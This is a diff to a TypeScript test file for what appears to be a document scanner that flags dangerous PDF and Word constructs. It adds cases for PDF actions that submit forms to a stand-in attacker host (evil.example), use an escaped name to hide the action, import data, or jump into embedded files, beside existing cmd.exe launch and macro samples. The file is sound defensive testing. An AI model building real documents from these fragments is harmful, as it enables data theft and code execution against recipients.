@@ -43,6 +43,10 @@ it.each<[string, FileType, string]>([
   ['a call of a program', 'pdf', '<</S /Launch /F (cmd.exe)>>'],
   ['a file inside', 'pdf', '<</EmbeddedFile 3 0 R>>'],
   ['files inside', 'pdf', '<</Names<</EmbeddedFiles 3 0 R>>>>'],
+  ['a form that is sent away', 'pdf', '<</S/SubmitForm/F(https://evil.example)>>'],
+  ['a hidden form that is sent away', 'pdf', '<</S/Submit#46orm>>'],
+  ['data that is fetched', 'pdf', '<</S /ImportData /F (x.fdf)>>'],
+  ['a way into an embedded file', 'pdf', '<</S/GoToE/T<</R/C>>>>'],
   ['macros', 'doc', wide('_VBA_PROJECT')],
   ['macros', 'doc', wide('Macros')],
   ['a program', 'doc', `\x01${wide('Ole10Native')}`],
@@ -54,7 +58,7 @@ it.each<[string, FileType, string]>([
 )
 
 it('a word that only begins alike is none', () =>
-  expect(inspect(latin(`${REAL.pdf}/JSon /Launchpad`), 'pdf')).toBeUndefined())
+  expect(inspect(latin(`${REAL.pdf}/JSon /Launchpad /GoToEnd /GoTo /GoToR`), 'pdf')).toBeUndefined())
 
 describe('bytes that were chosen to hinder', () => {
   /** The largest file there is, with this over and over. */
